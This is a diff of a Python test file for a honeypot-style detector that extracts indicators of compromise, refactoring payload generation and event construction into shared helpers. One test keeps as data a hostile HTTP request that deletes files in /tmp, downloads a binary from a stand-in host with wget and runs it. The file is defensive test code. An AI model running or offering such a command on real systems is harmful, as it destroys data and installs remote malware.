@@ -15,7 +15,7 @@ from honeyguard.detect.iocs.extract import Job
 from honeyguard.detect.labeler import RuleLabeler
 from honeyguard.model import Event, HttpRequest
 from tests.detect import _ioc_corpus as corpus
-from tests.detect._support import builtin_engine
+from tests.detect._support import builtin_engine, http_event, joined_payloads
 
 extract_module = sys.modules["honeyguard.detect.iocs.extract"]  # the package exports functions by these names
 Found = list[tuple[str, str, str]]
@@ -38,13 +38,7 @@ def test_extraction_gives_what_it_gave_before_it_was_staged() -> None:
         assert _plain(extract_iocs(texts, host=host)) == [tuple(i) for i in expected[index]]
 
 
-_piece = st.sampled_from(corpus.PIECES)
-_payload = st.builds(
-    lambda pieces, sep, plus: sep.join(pieces).replace(b" ", b"+" if plus else b" "),
-    st.lists(st.one_of(_piece, st.binary(max_size=12)), min_size=1, max_size=6),
-    st.sampled_from([b" ", b";", b"&", b"", b"\n", b"%20"]),
-    st.booleans(),
-)
+_payload = joined_payloads(corpus.PIECES)
 
 
 def _request(payload: bytes, where: int, host: bytes) -> bytes:
@@ -110,24 +104,10 @@ def test_classify_raw_many_labels_a_repeat_once_and_gives_what_classify_raw_give
 
 
 def test_sensor_events_in_a_batch_get_what_each_gets_alone() -> None:
-    from datetime import UTC, datetime
-
     def event(n: int) -> Event:
         target = f"/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/jaws{n};sh+/tmp/jaws"
-        body = HttpRequest(method="GET", target=target, version="HTTP/1.1", headers=[("Host", "203.0.113.1:80")])
-        return Event(
-            id=f"0190d3f0-0000-7000-8000-{n:012d}",
-            ts=datetime(2026, 1, 1, tzinfo=UTC),
-            sensor="s",
-            location="l",
-            session="x",
-            kind="http.request",
-            src_ip="198.51.100.1",
-            src_port=40000,
-            dst_port=80,
-            protocol="http",
-            body=body,
-        )
+        headers = [("Host", "203.0.113.1:80")]
+        return http_event(HttpRequest(method="GET", target=target, version="HTTP/1.1", headers=headers), number=n)
 
     events = [event(n) for n in range(40)]
     alone = [_plain(subject_iocs(s)) for s in map(event_subject, events) if s is not None]
